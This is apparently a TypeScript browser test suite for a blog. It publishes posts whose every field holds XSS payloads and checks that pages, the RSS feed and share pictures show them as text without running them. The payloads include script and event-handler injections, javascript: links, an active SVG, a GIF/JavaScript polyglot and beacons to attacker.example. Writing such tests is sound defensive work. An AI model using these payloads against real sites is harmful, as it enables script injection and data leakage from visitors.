import { randomUUID } from 'node:crypto';
import { XMLParser } from 'fast-xml-parser';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject } from 'vitest';
import * as z from 'zod';
import { renderRss } from '../../../lambdas/pages/rss.ts';
import { parsePost } from '../../../scripts/seed/blog/post-file.ts';
import { createSharePicture } from '../../../scripts/seed/blog/share-pictures.ts';
import { limits } from '../../../shared/model/limits.ts';
import { test } from '../../support/browser.ts';
import { createListPath, newPost } from '../../support/posts.ts';
import { deletePost } from '../../support/stored-items/content.ts';

/** The script of each attack: it reports that it ran, and requests a picture from the attacker's site. */
const createAttackScript = (source: string) =>
  `attacked('${source}');new Image().src='https://attacker.example/${source}'`;
const createAttackMarkup = (source: string) =>
  `</title></script><script>${createAttackScript(source)}</script>"'><img src=x onerror="${createAttackScript(source)}"><svg onload="${createAttackScript(source)}">`;

const attackContent = [
  createAttackMarkup('text'),
  `[link](javascript:${createAttackScript('link')})`,
  `[data](data:text/html,<script>${createAttackScript('data')}</script>)`,
  `![" onerror="${createAttackScript('picture')}](/share/site.png)`,
  '![polyglot](https://pictures.example.com/polyglot.gif)',
  `| ${createAttackMarkup('table')} |\n| --- |\n| ${createAttackMarkup('cell')} |`,
  `\`\`\`html\n${createAttackMarkup('code')}\n\`\`\``,
  `## ${createAttackMarkup('heading')}`,
  `- ${createAttackMarkup('item')}`,
  `<style>@import "https://attacker.example/style"</style><meta http-equiv="refresh" content="0;https://attacker.example/">`,
  `<iframe srcdoc="<script>parent.${createAttackScript('frame')}</script>"></iframe><base href="https://attacker.example/">`,
].join('\n\n');

/** An SVG with scripts. They run if it is opened as a page, or if a page lets pictures run scripts. */
const activeSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="12" height="6" onload="top.${createAttackScript('svg')}"><script>top.${createAttackScript('svg script')}</script><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.${createAttackScript('svg html')}"/></foreignObject><image href="https://attacker.example/svg"/></svg>`;
/**
 * A file that is both a GIF and a script: the code is in a comment of the picture, and the picture is in a
 * comment of the code.
 */
const polyglotCode = `*/=1;${createAttackScript('polyglot')}//`;
const polyglotFile = Buffer.concat([
  Buffer.from('GIF89a/*', 'latin1'),
  Buffer.from('01000000002c00000000010001008000000000ffffff020244010021fe', 'hex'),
  Buffer.from([polyglotCode.length]),
  Buffer.from(`${polyglotCode}\0;`),
]);

const publishedDate = '2018-03-05';
const post = newPost({
  slug: `attack-${randomUUID()}`,
  published_date: publishedDate,
  title: createAttackMarkup('title').slice(0, limits.subject),
  excerpt: createAttackMarkup('excerpt').slice(0, limits.excerpt),
  author: createAttackMarkup('author').slice(0, limits.name),
  category: `</script><script>${createAttackScript('category')}</script>`.slice(0, limits.name),
  read_time: '<img src=x onerror=attacked(1)>',
  seo_title: createAttackMarkup('seo title').slice(0, limits.subject),
  seo_description: createAttackMarkup('seo description').slice(0, limits.excerpt),
  image_url: 'https://pictures.example.com/active.svg',
  content: attackContent,
});
const longestPost = newPost({
  published_date: publishedDate,
  content: `${createAttackMarkup('long')}\n\n`.repeat(1_000).slice(0, limits.post),
});

beforeAll(async () => {
  const { publishPost } = await import('../../../lambdas/blog/publish-post.ts');
  await Promise.all([post, longestPost].map(publishPost));
});
// Deletes the posts, because the list would otherwise show their pictures to other tests.
afterAll(async () => {
  await Promise.all([post.slug, longestPost.slug].map(deletePost));
});

/** Records effects of an attack: calls, dialogs, requests, and scripts that the security policy blocked. */
async function recordAttackEffects(page: Page): Promise<string[]> {
  const effects: string[] = [];
  await page.exposeFunction('attacked', (source: string) => void effects.push(`ran: ${source}`));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, sourceFile }) =>
      console.error(`blocked by the policy: ${violatedDirective} ${sourceFile}`),
    );
  });
  page.on('dialog', (dialog) => {
    effects.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (protocol.startsWith('http') && !['127.0.0.1', 'pictures.example.com'].includes(hostname))
      effects.push(`request: ${request.url()}`);
  });
  await page.route('https://pictures.example.com/active.svg', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: activeSvg }),
  );
  await page.route('https://pictures.example.com/polyglot.gif', (route) =>
    route.fulfill({ contentType: 'image/gif', body: polyglotFile }),
  );
  return effects;
}

/** Loads lazy content, hovers over and focuses every element, and waits for the effects. */
const triggerAndFindActiveContent = (page: Page) =>
  page.evaluate(async () => {
    for (const element of document.querySelectorAll<HTMLElement>('*')) {
      element.scrollIntoView();
      for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'animationend'])
        element.dispatchEvent(new Event(type));
    }
    await Promise.allSettled([...document.images].map((image) => image.decode()));
    const handlers = [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    );
    const scripts = document.querySelectorAll('body script, body style, body iframe, main base, main meta');
    return { handlers, elements: scripts.length };
  });

test('attacks in every field of a post do not run in its page, and are shown as text', async ({ visit }) => {
  const { page } = await visit();
  const effects = await recordAttackEffects(page);
  await page.goto(`/blog/${post.slug}`);
  expect(await triggerAndFindActiveContent(page)).toEqual({ handlers: [], elements: 0 });
  await expect.poll(() => page.locator('h1').textContent()).toBe(post.title);
  expect(await page.title()).toContain(post.seo_title);
  await expect.poll(() => page.locator('.post-head .lead').textContent()).toBe(post.excerpt);
  const text = await page.locator('main').innerText();
  for (const source of ['text', 'table', 'cell', 'code', 'heading', 'item'])
    expect(text).toContain(createAttackScript(source));
  for (const shownField of [post.author, post.category, post.read_time]) expect(text).toContain(shownField);
  await expect.poll(() => page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
  for (const name of ['active.svg', 'polyglot.gif'])
    expect(
      await page.locator(`img[src$="${name}"]`).evaluate((image: HTMLImageElement) => image.naturalWidth),
      name,
    ).toBeGreaterThan(0);
  expect(effects).toEqual([]);
});

test('attacks do not run in the list of posts, also when Load More appends them', async ({ visit }) => {
  const { page } = await visit();
  const effects = await recordAttackEffects(page);
  await page.goto(createListPath('2018-03-06'));
  expect(await triggerAndFindActiveContent(page)).toEqual({ handlers: [], elements: 0 });
  const card = page.locator('.post-card', { has: page.locator(`[href="/blog/${post.slug}"]`) });
  await expect.poll(() => card.locator('h2').textContent()).toBe(post.title);
  await expect.poll(() => card.locator('.post-excerpt').textContent()).toBe(post.excerpt);
  expect(effects).toEqual([]);
});

test(
  'attacks do not run in the longest text that can be published',
  { tags: ['nightly'] },
  async ({ visit }) => {
    const { page } = await visit();
    const effects = await recordAttackEffects(page);
    await page.goto(`/blog/${longestPost.slug}`);
    expect(await triggerAndFindActiveContent(page)).toEqual({ handlers: [], elements: 0 });
    await expect.poll(() => page.locator('main').innerText()).toContain(createAttackScript('long'));
    expect(effects).toEqual([]);
  },
);

test('ten megabytes of Markdown are not published', () => {
  const longContent = `${attackContent}\n\n`.repeat(Math.ceil(10_000_000 / attackContent.length));
  expect(() => parsePost('a-post.md', `---\ntitle: A\n---\n${longContent}`)).toThrow(
    `content is longer than ${limits.post} characters`,
  );
});

const Feed = z.object({
  rss: z.object({
    channel: z.object({
      item: z.array(z.object({ title: z.string(), link: z.string(), description: z.string() })),
    }),
  }),
});

test(
  "attacks do not run when a feed reader interprets the feed's descriptions as HTML",
  { tags: ['nightly'] },
  async ({ visit }) => {
    const { page } = await visit();
    const effects = await recordAttackEffects(page);
    const feed = renderRss([post], inject('cloud').site);
    await page.route('**/feed.xml', (route) => route.fulfill({ contentType: 'application/xml', body: feed }));
    await page.goto('/feed.xml');
    await expect.poll(() => page.locator('item > title').textContent()).toBe(post.title);
    const { item } = Feed.parse(new XMLParser({ isArray: (name) => name === 'item' }).parse(feed)).rss
      .channel;
    // A page without our content security policy.
    await page.route('**/reader.html', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>Reader</title><main></main>' }),
    );
    await page.goto('/reader.html');
    await page.locator('main').evaluate((main, html) => (main.innerHTML = html), item[0]?.description ?? '');
    await expect.poll(() => page.locator('main').textContent()).toBe(post.excerpt);
    expect(effects).toEqual([]);
  },
);

test(
  'attacks do not run in the share picture, opened as the SVG from which it is rendered',
  { tags: ['nightly'] },
  async ({ visit }) => {
    const { page } = await visit();
    const effects = await recordAttackEffects(page);
    const { svg } = createSharePicture(post);
    await page.route('**/share.svg', (route) => route.fulfill({ contentType: 'image/svg+xml', body: svg }));
    await page.goto('/share.svg');
    expect(await page.evaluate(() => document.documentElement.textContent)).toContain('<script>');
    await expect
      .poll(() => page.locator('script, image, foreignObject, a, [onload], [onerror]').count())
      .toBe(0);
    expect(effects).toEqual([]);
  },
);

test('the detection on these pages notices each kind of attack', async ({ visit }) => {
  const { page } = await visit({ expected: [/.*/] });
  const effects = await recordAttackEffects(page);
  await page.route('**/open.html', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<h1>${createAttackMarkup('control')}</h1><script>alert(1)</script>`,
    }),
  );
  await page.goto('/open.html');
  await expect
    .poll(() => effects)
    .toEqual(
      expect.arrayContaining(['ran: control', 'dialog: 1', 'request: https://attacker.example/control']),
    );
});
